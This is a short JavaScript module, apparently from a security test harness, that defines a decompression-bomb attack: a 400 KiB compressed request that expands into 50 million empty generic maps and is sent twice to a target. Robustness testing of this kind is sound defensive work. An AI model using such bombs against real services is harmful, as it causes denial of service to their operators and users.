import { bombBytes } from '../harness/bombs.mjs';
import { bombOf, compressedRequest, vInt } from '../harness/wire.mjs';

const LIST = 7;
const EMPTY_MAP = Buffer.of(10, 0);

export const attack = {
  what: 'Compressed requests of 400 KiB that become a list of 50 million empty generic maps.',
  like: 'decompression bombs',
  prepare: (attacker) =>
    compressedRequest(
      'demo:generic',
      bombOf(EMPTY_MAP, bombBytes(attacker), (count) => Buffer.concat([Buffer.of(0, LIST), vInt(count)])),
    ),
  run: (attacker, bomb) => attacker.askAgain(2, bomb),
};
